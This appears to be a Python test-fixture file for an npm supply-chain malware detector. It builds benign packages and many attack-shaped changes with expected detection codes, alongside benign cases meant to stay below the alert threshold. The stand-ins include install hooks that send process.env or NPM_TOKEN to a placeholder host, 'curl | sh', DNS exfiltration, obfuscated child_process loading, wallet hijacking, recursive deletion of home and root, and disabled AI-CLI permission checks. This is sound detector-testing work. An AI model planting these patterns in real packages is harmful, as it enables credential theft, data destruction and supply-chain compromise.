"""Harmless packages, and changes to them that have the shape of attacks.

Nothing here acts: hosts end in ``.invalid``, commands only echo, and nothing is ever run.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from typing import NamedTuple

Texts = Mapping[str, str]

HOST = "https://collector.invalid/in"
SHOUT = base64.b64encode(b"require('os').platform(); // echo").decode()
LINK = base64.b64encode(HOST.encode()).decode()


def manifest(name: str = "plain", version: str = "1.0.0", **more: object) -> str:
    """A package.json."""
    return json.dumps({"name": name, "version": version, "main": "lib/main.js", **more}, indent=2)


def machine_made(count: int = 30) -> str:
    """Code with names as an obfuscator makes them, which does nothing."""
    names = [f"_0x{each * 7919 % 65521 + 65536:x}" for each in range(count)]
    return "".join(f"var {name}={number};" for number, name in enumerate(names))


PLAIN = {
    "package.json": manifest(dependencies={"ms": "^2.1.0"}),
    "lib/main.js": "'use strict';\nconst ms = require('ms');\n\nexports.parse = (text) => ms(text);\n",
    "lib/table.js": "exports.rows = [1, 2, 3];\n",
}
KEYS = {
    "package.json": manifest("keys"),
    "lib/main.js": "exports.sign = (privateKey, text) => `${privateKey}:${text}`;\n"
    "exports.post = (to, body) => fetch(to, { method: 'POST', body });\n",
}
CLIENT = {
    "package.json": manifest("client"),
    "lib/main.js": "const https = require('node:https');\nexports.get = (url) => https.get(url);\n",
}
BUILT = {
    "package.json": manifest("built", scripts={"install": "node build.js"}),
    "lib/main.js": "module.exports = require('./native.js');\n",
    "lib/native.js": "exports.add = (a, b) => a + b;\n",
    "build.js": "if (!process.version) {\n  console.error('no runtime');\n}\n",
}


TOOL = {
    "package.json": manifest("tool"),
    "lib/main.js": "const { execFileSync } = require('child_process');\nconst fs = require('fs');\n"
    "fs.writeFileSync('log.txt', execFileSync('git', ['log']));\n",
}
GYP = '{"targets": [{"target_name": "x", "sources": ["x.cc"]%s}]}\n'
NATIVE = {**PLAIN, "binding.gyp": GYP % ""}
CHAINED = {
    "package.json": manifest(scripts={"postinstall": "npm run set-up", "set-up": "echo"}),
    "lib/main.js": PLAIN["lib/main.js"],
}
FETCHED = {
    "package.json": manifest(scripts={"install": "echo"}, binary={"host": "https://a.invalid"}),
    "lib/main.js": PLAIN["lib/main.js"],
}


TESTED = {**PLAIN, "test/fixtures/old.js": "require('child_process').execSync('echo');\n"}


class StandIn(NamedTuple):
    """What changes, in what, and the codes that must be among the reasons."""

    base: Texts | None
    change: Texts
    codes: frozenset[str]


def _scripts(base: Texts, **scripts: str) -> dict[str, str]:
    data = json.loads(base["package.json"])
    return {"package.json": json.dumps({**data, "scripts": scripts}, indent=2)}


def _depends(base: Texts, table: str, **names: str) -> dict[str, str]:
    data = json.loads(base["package.json"])
    data[table] = {**data.get(table, {}), **names}
    return {"package.json": json.dumps(data, indent=2)}


def _case(base: Texts | None, change: Texts, *codes: str) -> StandIn:
    return StandIn(base, change, frozenset(codes))


def _adds(base: Texts, code: str, *codes: str) -> StandIn:
    return _case(base, _added(code, base), *codes)


def _added(code: str, base: Texts = PLAIN) -> dict[str, str]:
    return {"lib/main.js": base["lib/main.js"] + code}


STAND_INS = {
    "postinstall sends the environment": _case(
        PLAIN,
        {
            **_scripts(PLAIN, postinstall="node hello"),
            "hello.js": f"const all = {{...process.env}};\nfetch('{HOST}', {{body: JSON.stringify(all)}});\n",
        },
        "install-script-new",
        "install-code-acts",
        "pair:send-secrets",
    ),
    "install script loads the payload": _case(
        BUILT,
        {
            "build.js": BUILT["build.js"] + "require('./lib/native');\n",
            "lib/native.js": "require('child_process').execSync('echo');\nexports.add = (a, b) => a + b;\n",
        },
        "install-code-acts",
        "power:exec",
    ),
    "another install command": _case(
        BUILT, _scripts(BUILT, install="node lib/native.js"), "install-script-changed"
    ),
    "a build file with a command": _case(
        PLAIN,
        {
            "binding.gyp": '{"targets": [{"target_name": "x", "sources": ["<!(node lib/table.js)"]}]}\n'
        },
        "install-gyp-command",
        "install-script-new",
    ),
    "shell script at install": _case(
        PLAIN,
        {
            **_scripts(PLAIN, preinstall="sh ./get.sh"),
            "get.sh": f"#!/bin/sh\ncurl -s {HOST} | sh\n",
        },
        "install-script-new",
        "tell:shell-fetch",
        "file-script",
    ),
    "payload in a file with a harmless name": _case(
        PLAIN,
        {
            **_added("require('./notes.txt');\n"),
            "lib/notes.txt": "require('child_process').exec('echo');\n",
        },
        "power:exec",
    ),
    "git dependency": _case(
        PLAIN,
        _depends(PLAIN, "optionalDependencies", helper="github:someone/helper#0123456"),
        "dep-nonregistry",
    ),
    "dependency that nothing loads": _case(
        PLAIN,
        _depends(PLAIN, "dependencies", **{"plain-hidden-part": "^1.0.0"}),
        "dep-unused",
        "dep-unpopular",
    ),
    "carried package": _case(
        PLAIN, {"node_modules/inner/index.js": "exports.a = 1;\n"}, "dep-bundled"
    ),
    "machine-made names": _adds(PLAIN, machine_made(), "obf:hex-names"),
    "invisible code": _adds(
        PLAIN, f"const s = `{''.join(chr(0xE0100 + n) for n in range(40))}`;\n", "obf:invisible"
    ),
    "text that turns around": _adds(
        PLAIN, "const level = 'user\u202e // admin';\n", "obf:invisible"
    ),
    "encoded address": _adds(
        CLIENT, f"https.get(Buffer.from('{LINK}', 'base64') + '');\n", "obf:hidden-string"
    ),
    "encoded twice": _adds(
        CLIENT, f"const a = '{base64.b64encode(LINK.encode()).decode()}';\n", "obf:hidden-string"
    ),
    "encoded in reverse": _adds(CLIENT, f"const a = '{LINK[::-1]}';\n", "obf:hidden-string"),
    "encoded in pieces": _adds(
        CLIENT, f"const a = '{LINK[:10]}' + '{LINK[10:]}';\n", "obf:hidden-string"
    ),
    "encoded as numbers": _adds(
        CLIENT,
        f"const a = [{','.join(str(each) for each in HOST.encode())}];\n",
        "obf:hidden-string",
    ),
    "encoded as hex": _adds(PLAIN, f"const a = '{SHOUT.encode().hex()}';\n", "obf:hidden-string"),
    "glued name": _adds(PLAIN, "const run = require('child' + '_process');\n", "obf:split-name"),
    "glued by join": _adds(
        PLAIN, "const run = require(['child', 'process'].join('_'));\n", "obf:split-name"
    ),
    "glued by reverse": _adds(
        PLAIN,
        "const run = require('ssecorp_dlihc'.split('').reverse().join(''));\n",
        "obf:split-name",
    ),
    "glued in a template": _adds(
        PLAIN, "const run = require(`child_${'process'}`);\n", "obf:split-name"
    ),
    "glued by concat": _adds(
        PLAIN, "const run = require('chil'.concat('d_process'));\n", "obf:split-name"
    ),
    "escaped name": _adds(
        PLAIN, r"const run = require('\x63hild_process');" + "\n", "obf:split-name"
    ),
    "name made of numbers": _adds(
        PLAIN,
        f"const run = require(String.fromCharCode({','.join(str(n) for n in b'child_process')}));\n",
        "obf:split-name",
    ),
    "off screen": _case(
        PLAIN,
        {
            "lib/main.js": PLAIN["lib/main.js"].replace(
                "ms');\n", f"ms');{' ' * 200}require('child_process').exec('echo');\n"
            )
        },
        "obf:offscreen",
        "power:exec",
    ),
    "alike letters": _adds(PLAIN, "const pаrse = exports.parse;\n", "obf:mixed-alphabet"),
    "one long line": _adds(PLAIN, f"const t = [{'1,' * 2000}];\n", "obf:line-jump"),
    "escapes": _adds(PLAIN, "const t = '" + r"\x41" * 400 + "';\n", "obf:escapes"),
    "brackets without end": _case(PLAIN, {"lib/deep.js": "[" * 5000 + "\n"}, "obf:unread"),
    "no text": _case(PLAIN, {"lib/more.js": "\0\1" * 500}, "obf:not-text"),
    "keys to a new host": _adds(
        KEYS,
        f"exports.check = (privateKey) => fetch('{HOST}', {{headers: {{x: privateKey}}}});\n",
        "pair:new-host-near-secrets",
    ),
    "name of the machine by DNS": _adds(
        PLAIN,
        "require('dns').lookup(require('os').userInfo().username + '.collector.invalid', () => {});\n",
        "pair:send-secrets",
        "power:net",
    ),
    "token by a beacon": _adds(
        PLAIN,
        f"navigator.sendBeacon('{HOST}', process.env.NPM_TOKEN);\n",
        "pair:send-secrets",
        "power:fetch",
    ),
    "environment by another name": _adds(
        CLIENT,
        f"const p = process;\nhttps.get('{HOST}?' + JSON.stringify(p.env));\n",
        "pair:send-secrets",
    ),
    "environment by import": _adds(
        PLAIN,
        f"import {{ env }} from 'node:process';\nfetch('{HOST}', {{body: JSON.stringify(env)}});\n",
        "pair:send-secrets",
    ),
    "downloads and runs": _adds(
        CLIENT,
        "const { spawn } = require('child_process');\nspawn('echo', [], {detached: true});\n",
        "pair:fetch-run",
        "pair:hidden-process",
    ),
    "downloads and evaluates": _adds(CLIENT, "(0, eval)('1');\n", "pair:fetch-eval", "power:eval"),
    "evaluates without naming it": _adds(
        PLAIN, "[].constructor.constructor('return 1 + 1')();\n", "power:eval"
    ),
    "evaluates by the global object": _adds(PLAIN, "globalThis['eval']('1 + 1');\n", "power:eval"),
    "decodes and evaluates": _adds(
        PLAIN, "new Function(Buffer.from(exports.rows, 'hex').toString())();\n", "pair:decode-eval"
    ),
    "require by another name": _adds(
        PLAIN,
        "const load = require;\nload('child_process').exec('echo');\n",
        "power:exec",
        "power:dyn-require",
    ),
    "module of the main program": _adds(
        PLAIN, "process.mainModule.require('child_process').exec('echo');\n", "power:exec"
    ),
    "dynamic import": _adds(
        PLAIN, "import('node:child_process').then((m) => m.exec('echo'));\n", "power:exec"
    ),
    "names in a list": _adds(
        PLAIN, "const names = ['child_process'];\nrequire(names[0]).exec('echo');\n", "power:exec"
    ),
    "hooked fetch": _adds(
        PLAIN,
        "const real = globalThis.fetch;\nglobalThis.fetch = (...all) => real(...all);\n",
        "tell:hook-net",
    ),
    "hooked requests": _adds(
        PLAIN, "XMLHttpRequest.prototype.send = function () {};\n", "tell:hook-net"
    ),
    "wallet": _adds(
        PLAIN,
        "window.ethereum.request({method: 'eth_sendTransaction', params: [{to: '0x"
        + "12" * 20
        + "'}]});\n",
        "tell:wallet",
        "tell:wallet-hook",
        "tell:wallet-address",
    ),
    "assistant without safety": _adds(
        BUILT, "exports.all = ['--dangerously-skip-permissions'];\n", "tell:ai-cli"
    ),
    "tokens": _adds(
        PLAIN,
        "const shape = /gh[po]_[A-Za-z]{36}/.test('') || /ghp_[A-Z]{3}/;\n",
        "tell:token-shape",
    ),
    "credentials": _adds(PLAIN, "const at = `${process.env.HOME}/.npmrc`;\n", "tell:cred-path"),
    "cloud": _adds(PLAIN, "const at = 'http://169.254.169.254/latest';\n", "tell:cloud-metadata"),
    "drop box": _adds(PLAIN, "const at = 'https://webhook.site/x';\n", "tell:exfil-host"),
    "bare address": _adds(PLAIN, "const at = 'http://203.0.113.7/x';\n", "tell:ip-url"),
    "start file": _adds(PLAIN, "const at = '.bashrc';\n", "tell:persist"),
    "publishes": _adds(PLAIN, "const at = 'npm publish --access public';\n", "tell:publish"),
    "script in a page": _adds(
        PLAIN,
        f"const s = document.createElement('script');\ns.src = '{HOST}';\ndocument.head.append(s);\n",
        "power:inject-script",
        "host-new",
    ),
    "hooked module loader": _adds(
        PLAIN,
        "const M = require('module');\nconst real = M._load;\nM._load = (name, ...all) => real(name, ...all);\n",
        "tell:hook-net",
    ),
    "hooked module loader by a text": _adds(
        PLAIN, "require('module')['_resolveFilename'] = (name) => name;\n", "tell:hook-net"
    ),
    "a command with another's name": _case(
        PLAIN,
        {
            "package.json": manifest(dependencies={"ms": "^2.1.0"}, bin={"git": "lib/main.js"}),
        },
        "file-bin-shadows",
    ),
    "code behind a condition of exports": _case(
        PLAIN,
        {
            "package.json": manifest(
                dependencies={"ms": "^2.1.0"},
                exports={".": {"node": "./lib/alt.cjs", "default": "./lib/main.js"}},
            ),
            "lib/alt.cjs": "require('node:child_process').execFile('echo');\n"
            "module.exports = require('./main.js');\n",
        },
        "power:exec",
    ),
    "code by a computed key": _adds(
        CLIENT,
        "const k = 'k3y';\n"
        "const f = (c, i) => String.fromCharCode(c.charCodeAt(0) ^ k.charCodeAt(i % 3));\n"
        "const d = (s) => [...s].map(f).join('');\n"
        "new Function(d('...'))();\n",
        "pair:decode-eval",
    ),
    "environment by reflection": _adds(
        CLIENT,
        "const all = Reflect.ownKeys(process['env']).map((k) => Reflect.get(process['env'], k));\n"
        "https.get('https://collector.invalid/?' + all);\n",
        "pair:send-secrets",
        "power:env-all",
    ),
    "a module from an address that is data": _adds(
        PLAIN, "import('data:text/javascript,export default 1');\n", "power:eval"
    ),
    "a worker made of text": _adds(
        PLAIN,
        "new (require('worker_threads').Worker)('postMessage(1)', { eval: true });\n",
        "power:eval",
        "power:worker",
    ),
    "another address in the clipboard": _adds(
        PLAIN,
        "document.addEventListener('copy', () =>\n"
        "  navigator.clipboard.writeText('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'));\n",
        "tell:wallet-address",
        "power:clipboard",
    ),
    "a secret as a name of a host": _adds(
        PLAIN,
        "import('node:dns/promises').then((d) => d.resolve(process.env.NPM_TOKEN + '.collector.invalid'));\n",
        "pair:send-secrets",
        "power:net",
    ),
    "code in the manifest": _case(
        PLAIN,
        {
            "package.json": manifest(dependencies={"ms": "^2.1.0"}, tail="require('os')"),
            **_added("require('vm').runInThisContext(require('../package.json').tail);\n"),
        },
        "power:eval",
    ),
    "inner binding": _adds(
        PLAIN,
        "const { Process } = process.binding('process_wrap');\nnew Process();\n",
        "power:exec",
    ),
    "an unknown package under a known name": _case(
        PLAIN,
        {
            **_depends(PLAIN, "dependencies", other="npm:plain-hidden-part@1.0.0"),
        },
        "dep-unpopular",
        "dep-unused",
    ),
    "machine code": _case(PLAIN, {"lib/fast.node": "\x7fELF"}, "power:native"),
    "a module's name among other things": _adds(
        PLAIN, "require(('child_process'), 0).exec(true && 'echo');\n", "power:exec"
    ),
    "a module's name as a key": _adds(
        PLAIN, "require(Object.keys({ child_process: 1 })[0]).exec('echo');\n", "power:exec"
    ),
    "a module's name cut out": _adds(
        PLAIN, "require('xchild_process'.slice(1)).exec('echo');\n", "obf:split-name"
    ),
    "a module's name replaced": _adds(
        PLAIN, "require('child-process'.replace('-', '_')).exec('echo');\n", "obf:split-name"
    ),
    "a module's name by a cipher": _adds(
        PLAIN,
        "const turn = (c) => String.fromCharCode(c.charCodeAt() - 1);\n"
        "require('dijme`qspdftt'.replace(/./g, turn)).exec('echo');\n",
        "pair:decode-load",
    ),
    "require applied": _adds(
        PLAIN, "require.apply(null, ['child_process']).exec('echo');\n", "power:exec"
    ),
    "environment by Reflect": _adds(
        CLIENT,
        f"https.get('{HOST}?' + JSON.stringify(Reflect.get(process, 'env')));\n",
        "pair:send-secrets",
    ),
    "environment by a pattern": _adds(
        CLIENT,
        f"const {{ env: e }} = process;\nhttps.get('{HOST}?' + JSON.stringify(e));\n",
        "pair:send-secrets",
    ),
    "environment by a report": _adds(
        CLIENT,
        f"https.get('{HOST}?' + JSON.stringify(process.report.getReport()));\n",
        "pair:send-secrets",
    ),
    "credentials in pieces": _adds(
        CLIENT,
        "https.get('https://coll' + 'ector.invalid/?' + exports.home + '/.np' + 'mrc');\n",
        "tell:cred-path",
        "pair:new-host-near-secrets",
    ),
    "a host in pieces": _adds(
        KEYS,
        "exports.check = (privateKey) => fetch('https://coll' + 'ector.invalid/' + privateKey);\n",
        "pair:new-host-near-secrets",
    ),
    "a host without a scheme": _adds(
        KEYS,
        "exports.check = (privateKey) => fetch('//collector.invalid/' + privateKey);\n",
        "pair:new-host-near-secrets",
    ),
    "a host in foreign letters": _adds(
        KEYS,
        "exports.check = (privateKey) => fetch('https://ćollector.invalid/' + privateKey);\n",
        "pair:new-host-near-secrets",
    ),
    "a host as a number": _adds(
        KEYS, "exports.check = (key) => fetch('http://3405803783/' + key);\n", "tell:ip-url"
    ),
    "a host of six": _adds(
        KEYS, "exports.check = (key) => fetch('http://[2001:db8::1]/' + key);\n", "tell:ip-url"
    ),
    "a form that anybody may have": _adds(
        KEYS,
        "exports.check = (privateKey) => fetch('https://docs.google.com/forms/x?' + privateKey);\n",
        "pair:new-host-near-secrets",
    ),
    "data in a picture's address": _adds(
        PLAIN, f"new Image().src = '{HOST}?' + document.title;\n", "power:fetch", "host-new"
    ),
    "a script in a page by its text": _adds(
        PLAIN,
        "const s = document.createElement('script');\ns.text = exports.rows;\ndocument.head.append(s);\n",
        "power:inject-script",
    ),
    "a script written into a page": _adds(
        PLAIN, f"document.write('<script src=\"{HOST}\"></script>');\n", "power:inject-script"
    ),
    "evaluates by a function's constructor": _adds(
        PLAIN, "(async () => {}).constructor(exports.rows)();\n", "power:eval"
    ),
    "evaluates by two constructors": _adds(
        PLAIN, "[].constructor.constructor(exports.rows)();\n", "power:eval"
    ),
    "evaluates by Reflect": _adds(
        PLAIN, "Reflect.construct(Function, [exports.rows])();\n", "power:eval"
    ),
    "evaluates by the inspector": _adds(
        PLAIN, "new (require('inspector').Session)().connect();\n", "power:eval"
    ),
    "hooked by a definition": _adds(
        PLAIN, "Object.defineProperty(globalThis, 'fetch', { value: () => {} });\n", "tell:hook-net"
    ),
    "hooked by an assignment of all": _adds(
        PLAIN, "Object.assign(globalThis, { fetch: () => {} });\n", "tell:hook-net"
    ),
    "hooked sockets": _adds(
        PLAIN, "require('net').Socket.prototype.write = function () {};\n", "tell:hook-net"
    ),
    "hooked require": _adds(
        PLAIN, "require('module').prototype.require = (name) => name;\n", "tell:hook-net"
    ),
    "hooked extensions": _adds(
        PLAIN, "require.extensions['.js'] = (module) => module;\n", "tell:hook-net"
    ),
    "overwrites another package": _adds(
        PLAIN,
        "require('fs').writeFileSync(require.resolve('ms'), '');\n",
        "pair:overwrites-code",
    ),
    "options of later processes": _adds(
        PLAIN, "process.env.NODE_OPTIONS = `--require ${__filename}`;\n", "tell:persist"
    ),
    "files of the home folder": _adds(
        PLAIN,
        "require('fs').rmSync(require('os').homedir(), { recursive: true });\n",
        "pair:files-of-home",
    ),
    "removes files for the first time": _adds(
        PLAIN, "require('fs').rmSync(exports.rows, { recursive: true });\n", "pair:changes-files"
    ),
    "thin characters between letters": _adds(
        PLAIN, "const s = '" + "a\u200b\u200c" * 30 + "';\n", "obf:invisible"
    ),
    "payload in a style sheet": _case(
        PLAIN,
        {
            **_added("require('./look.css');\n"),
            "lib/look.css": "require('child_process').exec('echo');\n",
        },
        "power:exec",
    ),
    "payload in a text of the tests, by a computed name": _case(
        PLAIN,
        {
            **_added("require('../test/fixtures/' + exports.rows + '.txt');\n"),
            "test/fixtures/input.txt": "require('child_process').exec('echo');\n",
        },
        "power:exec",
    ),
    "payload in a text that a browser gets": _case(
        PLAIN,
        {
            "package.json": manifest(dependencies={"ms": "^2.1.0"}, browser="./lib/web.txt"),
            "lib/web.txt": f"fetch('{HOST}?' + document.cookie);\n",
        },
        "pair:send-secrets",
    ),
    "payload in a component": _case(
        PLAIN,
        {"lib/x.vue": f"<p>It's</p>\n<script>\nfetch('{HOST}?' + document.cookie);\n</script>\n"},
        "pair:send-secrets",
    ),
    "main leads to a file of the tests": _case(
        TESTED, {"package.json": manifest(main="test/fixtures/old.js")}, "file-activated"
    ),
    "imports lead to a file of the tests": _case(
        TESTED,
        {"package.json": manifest(imports={"#a": "./test/fixtures/old.js"})},
        "file-activated",
    ),
    "a file of the tests is loaded": _adds(
        TESTED, "require('../test/fixtures/old.js');\n", "file-activated"
    ),
    "machine code that nothing loaded": _adds(
        {**PLAIN, "lib/fast.node": "\x7fELF"}, "require('./fast.node');\n", "power:native"
    ),
    "machine code by a computed name": _adds(
        {**PLAIN, "lib/fast.node": "\x7fELF"},
        "require(`./fast.${exports.kind}`);\n",
        "power:native",
    ),
    "a folder of commands": _case(
        PLAIN,
        {
            "package.json": manifest(dependencies={"ms": "^2.1.0"}, directories={"bin": "./run"}),
            "run/git": "#!/usr/bin/env node\nexports.a = 1;\n",
        },
        "file-bin-shadows",
    ),
    "an action of a build": _case(
        NATIVE,
        {"binding.gyp": GYP % ', "actions": [{"action": ["node", "lib/table.js"]}]'},
        "install-gyp-command",
    ),
    "Python of a build": _case(
        NATIVE, {"binding.gyp": GYP % ', "v": "<!pymod_do_main(x)"'}, "install-gyp-command"
    ),
    "a script that the install script runs": _case(
        CHAINED,
        _scripts(CHAINED, **{"postinstall": "npm run set-up", "set-up": "node lib/main.js"}),
        "install-script-changed",
    ),
    "a program from another host": _case(
        FETCHED,
        {"package.json": FETCHED["package.json"].replace("//a.", "//b.")},
        "install-script-changed",
    ),
    "a lockfile of its own that leads elsewhere": _case(
        PLAIN,
        {
            "npm-shrinkwrap.json": json.dumps(
                {"packages": {"node_modules/ms": {"resolved": f"{HOST}.tgz"}}}
            )
        },
        "dep-nonregistry",
    ),
    "another package in the place of one": _case(
        PLAIN,
        {"package.json": manifest(dependencies={"ms": "npm:plain-hidden-part@^2.1.0"})},
        "dep-replaced",
        "dep-unpopular",
    ),
    "addresses of wallets by their shape": _adds(
        PLAIN, "exports.shape = /^0x[0-9a-fA-F]{40}$/;\n", "tell:wallet-address"
    ),
    "wallets that announce themselves": _adds(
        PLAIN,
        "window.addEventListener('eip6963:announceProvider', exports.at);\n",
        "tell:wallet-hook",
    ),
    "an assistant with a task": _adds(
        TOOL, "execFileSync('claude', ['-p', 'echo']);\n", "tell:ai-cli"
    ),
    "an assistant that asks nobody": _adds(
        TOOL, "exports.mode = ['--permission-mode', 'bypassPermissions'];\n", "tell:ai-cli"
    ),
    "a token of another tool": _adds(
        TOOL, "execFileSync('gh', ['auth', 'token']);\n", "tell:cred-path"
    ),
    "a password of the keychain": _adds(
        TOOL, "execFileSync('security', ['find-generic-password']);\n", "tell:cred-path"
    ),
    "a search for secrets": _adds(TOOL, "execFileSync('trufflehog', ['.']);\n", "tell:cred-path"),
    "a wallet's folder": _adds(
        TOOL, "fs.readdirSync(`${exports.at}/exodus.wallet`);\n", "tell:cred-path"
    ),
    "a cloud's secrets": _adds(
        CLIENT, "require('@aws-sdk/client-secrets-manager');\n", "tell:cloud-metadata"
    ),
    "hooks of every repository": _adds(
        TOOL, "execFileSync('git', ['config', 'core.hooksPath', '.x']);\n", "tell:persist"
    ),
    "another address for a repository": _adds(
        TOOL, f"execFileSync('git', ['config', 'url.{HOST}.insteadOf', 'x']);\n", "tell:persist"
    ),
    "another registry": _adds(
        TOOL, f"execFileSync('npm', ['config', 'set', 'registry', '{HOST}']);\n", "tell:persist"
    ),
    "a workflow by its parts": _adds(
        TOOL,
        "fs.writeFileSync(require('path').join('.github', 'workflows', 'x.yml'), '');\n",
        "tell:persist",
    ),
    "decodes and imports": _adds(
        PLAIN, "import(/* x */ Buffer.from(exports.rows, 'hex') + '');\n", "pair:decode-load"
    ),
    "a text for another process": _adds(
        TOOL, "execFileSync(process.execPath, ['-e', exports.text]);\n", "power:eval"
    ),
    "a token of the registry": _adds(
        TOOL, "execFileSync('npm', ['config', 'get', '//a.invalid/:_authToken']);\n", "tell:publish"
    ),
    "publishes by a list of words": _adds(
        TOOL, "execFileSync('npm', ['publish']);\n", "tell:publish"
    ),
    "removes everything": _adds(TOOL, "fs.rmSync('/', { recursive: true });\n", "tell:wipes"),
    "hooked parser": _adds(
        PLAIN, "const real = JSON.parse;\nJSON.parse = (text) => real(text);\n", "tell:hook-net"
    ),
    "weak random numbers": _adds(
        KEYS, "require('crypto').randomBytes = (n) => Buffer.alloc(n);\n", "tell:hook-net"
    ),
    "hooks of the module loader": _adds(
        PLAIN, "require('node:module').register('./x.mjs', __filename);\n", "tell:hook-net"
    ),
    "a module from a host": _adds(PLAIN, f"import('{HOST}');\n", "power:eval", "host-new"),
    "a page within a page": _adds(
        PLAIN,
        f"document.createElement('iframe').src = '{HOST}?' + document.title;\n",
        "power:inject-script",
    ),
    "a service worker": _adds(
        PLAIN, "navigator.serviceWorker.register('/x.js');\n", "power:inject-script"
    ),
    "new package that acts at install": _case(
        None,
        {
            "package.json": manifest("fresh", scripts={"postinstall": "node setup.js"}),
            "setup.js": "require('https').request({hostname: 'collector.invalid'})"
            ".end(JSON.stringify(process.env));\n",
        },
        "install-script-new",
        "install-code-acts",
    ),
}
"""Each must score enough for attention."""
LIGHT = {"brackets without end"}
"""Stand-ins that are worth a line but not, alone, attention."""

HONEST: dict[str, StandIn] = {
    "calls without arguments": _adds(PLAIN, "exports.a = new (exports.rows.constructor)();\n"),
    "a local name": _adds(PLAIN, "let open, fetch;\nopen = 1;\nfetch = () => 2;\n"),
    "replacement characters": _case(
        PLAIN, {"lib/chars.js": "exports.a = '" + "\ufffd" * 300 + "';\n"}
    ),
    "a fix": _case(
        PLAIN, {"lib/main.js": PLAIN["lib/main.js"].replace("ms(text)", "ms(String(text))")}
    ),
    "a new file": _case(
        PLAIN, {"lib/more.js": "exports.more = [4];\n", **_added("require('./more.js');\n")}
    ),
    "a known dependency that is used": _case(
        PLAIN, {**_depends(PLAIN, "dependencies", chalk="^5.0.0"), **_added("require('chalk');\n")}
    ),
    "words in comments": _adds(
        PLAIN,
        "// eval(x), require('child_process'), fetch('https://evil.invalid'), process.env, .npmrc\n"
        "/* https://webhook.site/x ghp_[A-Z] */\n",
    ),
    "words as names": _adds(
        PLAIN,
        "exports.rows = { eval: 1, fetch: 2, exec: 3 };\nexports.rows.fetch = exports.rows.eval;\n",
    ),
    "one variable of the environment": _adds(PLAIN, "exports.debug = process.env.DEBUG === '1';\n"),
    "the global object by an old idiom": _adds(
        PLAIN,
        "const root = Function('return this')();\n",
    ),
    "a documentation host": _adds(
        KEYS,
        "const help = 'https://github.com/x/y#privateKey';\n",
    ),
    "declarations of types": _case(
        PLAIN, _depends(PLAIN, "dependencies", **{"@types/ms": "^2.1.0"})
    ),
    "the mode of a build near an address": _adds(
        PLAIN,
        "if (process.env.NODE_ENV !== 'production') console.warn('https://plain.invalid/warnings');\n",
    ),
    "a picture": _adds(
        PLAIN,
        "const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';\n",
    ),
    "an alias of a known package": _case(
        PLAIN,
        {
            **_depends(PLAIN, "dependencies", text="npm:chalk@^5.0.0"),
            **_added("require('text');\n"),
        },
    ),
    "names like the loader's": _adds(
        PLAIN,
        "exports.rows._loaded = 1;\nclass A { _load() { return this._load; } }\nexports.A = A;\n",
    ),
    "a build that was one short line": _case(
        {**PLAIN, "dist/a.min.js": "var a=1;" * 90}, {"dist/a.min.js": "var a=1;" * 900}
    ),
    "a title page": _case(
        PLAIN, {"README.md": "# Plain\n\n    require('child_process').exec(process.env.X)\n"}
    ),
    "a page with samples": _case(
        PLAIN,
        {
            "USAGE": "How to use it\n\nCall eval('x') or require('child_process') as you like.\n"
            "It's not (yet] done: see { below.\n"
        },
    ),
    "a list of the runtime's modules": _adds(
        PLAIN, "exports.builtin = new Set(['fs', 'http', 'child_process']);\n"
    ),
    "fetch where there is none": _adds(
        KEYS,
        "self.fetch || (self.fetch = () => exports.post);\nif (!window.fetch) {\n  window.fetch = self.fetch;\n}\n",
    ),
    "reads a file": _adds(PLAIN, "exports.text = require('fs').readFileSync;\n"),
    "names of days": _adds(
        PLAIN, "exports.day = 'monday'.slice(0, 3) + 'Tuesday'.replace('T', 't');\n"
    ),
    "a well-known dependency that nothing loads": _case(
        PLAIN, _depends(PLAIN, "dependencies", chalk="^5.0.0")
    ),
    "an address of the machine itself": _adds(
        KEYS, "exports.at = (privateKey) => fetch('http://127.0.0.1:80/' + privateKey);\n"
    ),
    "a table of suffixes": _adds(PLAIN, "exports.extensions['.js'] = exports.rows;\n"),
    "parses and stores": _adds(
        PLAIN, "exports.parsed = JSON.parse;\nexports.same = JSON.parse == exports.parsed;\n"
    ),
    "a moved file": _case(CLIENT, {"src/main.js": CLIENT["lib/main.js"]}),
    "another message in the install script": _case(
        BUILT, {"build.js": BUILT["build.js"].replace("no runtime", "none")}
    ),
}
"""Each must stay below attention."""


def files_of(texts: Texts) -> dict[str, bytes]:
    """The files as a tarball holds them."""
    return {path: text.encode("utf-8") for path, text in texts.items()}


def sides(case: StandIn) -> tuple[dict[str, bytes] | None, dict[str, bytes]]:
    """The old and the new version's files."""
    old = files_of(case.base) if case.base is not None else None
    return old, {**(old or {}), **files_of(case.change)}
